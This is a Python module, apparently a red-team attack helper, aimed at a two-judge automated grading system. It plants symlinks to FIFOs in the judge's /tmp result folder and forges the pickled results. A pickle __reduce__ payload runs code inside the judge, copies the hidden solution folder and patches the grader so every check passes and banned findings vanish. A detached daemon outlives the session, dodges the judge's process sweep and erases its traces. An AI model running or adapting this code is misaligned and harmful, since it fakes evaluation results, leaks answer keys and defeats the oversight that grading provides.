"""Attack helper (unjailed sealed grading only): forge the second judge's pickled results.

The second judge writes each result to <folder>/<i>.part, renames it to <folder>/<i> and writes "<i>\\n" on a
pipe; the first judge then pickle.load()s <folder>/<i>. The folder is in /tmp, owned by the grading user: a
worker that runs as that user (no jail) can plant <i>.part as a symbolic link to a FIFO of its own, read the
real result, and hand the first judge a forged pickle instead (every check passed, the banned findings
dropped, and code that runs in the judge).
"""

import glob
import os
import pickle
import threading
import time

BASE = "/tmp/gk-ij-forge"
MODE = "hang"  # "hang": read the real result, never hand the first judge anything
JUDGE_CODE = r'''
import json, os, pathlib, shutil, sys
base = %r
with open(os.path.join(base, "judge_exec.jsonl"), "a") as f:
    f.write(json.dumps({"pid": os.getpid(), "uid": os.getuid(), "argv": sys.argv}) + "\n")
try:
    import grader
    src = pathlib.Path(grader.__file__).resolve().parent.parent / "solution"
    dst = pathlib.Path(base, "leak")
    if src.is_dir() and not dst.exists():
        shutil.copytree(src, dst)
except Exception:
    pass
try:  # and every later check of this grading passes, whichever judge graded it
    import grader.engine as engine
    if not getattr(engine, "_gk_ij_patched", False):
        assemble = engine.assemble_tasks

        def assemble_tasks(*args, **kwargs):
            tasks = assemble(*args, **kwargs)
            for task in tasks:
                for check in task.checks:
                    check.status, check.score, check.message, check.error = "passed", check.max_score, None, None
                task.score, task.banned, task.blocked_by = task.max_score, [], []
            return tasks

        engine.assemble_tasks = assemble_tasks
        engine._gk_ij_patched = True
except Exception:
    pass
''' % BASE


class _RunInJudge:
    def __reduce__(self):
        return (eval, ("__import__('builtins').exec(%r, {}) or []" % JUDGE_CODE,))


def _forge(blob, name):
    data = pickle.loads(blob)
    if name == "done":
        counts, stand_ins = data
        counts = dict(counts, findings=[])
        return pickle.dumps((counts, stand_ins))
    result, _calls = data
    result.status = "passed"
    result.score = result.max_score
    result.message = None
    result.error = None
    result.example = {}
    return pickle.dumps((result, _RunInJudge()))


def _serve(fifo, name):
    try:
        with open(fifo, "rb") as f:
            blob = f.read()
        if MODE == "hang":
            while True:
                time.sleep(60)
        try:
            out = _forge(blob, name)
        except Exception:
            out = blob
        with open(fifo, "wb") as f:
            f.write(out)
        with open(os.path.join(BASE, "forged.log"), "a") as f:
            f.write(name + "\n")
    except Exception:
        pass


def _plant(folder, tag):
    for name in [str(i) for i in range(120)] + ["done"]:
        fifo = os.path.join(BASE, f"{tag}-{name}")
        try:
            os.mkfifo(fifo)
            os.symlink(fifo, os.path.join(folder, name + ".part"))
        except OSError:
            continue
        threading.Thread(target=_serve, args=(fifo, name), daemon=True).start()


def _stat(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return int(fields[1]), int(fields[19])  # ppid, start time (clock ticks after boot)


def _boot_time():
    with open("/proc/stat") as f:
        for line in f:
            if line.startswith("btime"):
                return int(line.split()[1])
    return 0


def _alive(pid):
    try:
        os.kill(pid, 0)
        return True
    except OSError:
        return False


def _second_judge(judge, server):
    """The first judge's child that is not the fork server (the second judge), and when it started."""
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) in (server, os.getpid()):
            continue
        try:
            ppid, start = _stat(name)
        except (OSError, ValueError, IndexError):
            continue
        if ppid == judge:
            return int(name), _boot_time() + start / os.sysconf("SC_CLK_TCK")
    return None, None


def _daemon(judge, server):
    """Only this grading's folder: the one made just before the first judge forked its second judge."""
    end = time.time() + 600
    mine = None
    while time.time() < end and _alive(judge):
        if mine is None:
            pid, started = _second_judge(judge, server)
            if pid is not None:
                near = []
                for folder in glob.glob("/tmp/gradekit-shard-*"):
                    try:
                        near.append((abs(os.stat(folder).st_ctime - started), folder))
                    except OSError:
                        pass
                near = sorted(n for n in near if n[0] < 2.0)
                if near and os.access(near[0][1], os.W_OK):
                    mine = near[0][1]
                    _plant(mine, 0)
        elif not os.path.exists(mine):
            return
        time.sleep(0.002)
    if mine is not None and not _alive(judge):  # the grading was killed (hang mode): leave nothing behind
        import shutil

        shutil.rmtree(mine, ignore_errors=True)


def start():
    if not os.path.isdir("/tmp"):
        return  # a jailed worker: no /tmp, nothing to do
    try:
        os.makedirs(BASE, exist_ok=True)
        os.mkdir(os.path.join(BASE, "lock"))
    except OSError:
        return  # one daemon per grading
    server = os.getppid()  # the fork server; its parent is the first judge
    judge = _stat(server)[0]
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        os.chdir("/")  # out of the worker's folder: the judge sweeps processes whose cwd is inside it
        os.closerange(3, 4096)
        threading.stack_size(256 << 10)
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        _daemon(judge, server)
    finally:
        os._exit(0)


try:
    start()
except Exception:
    pass
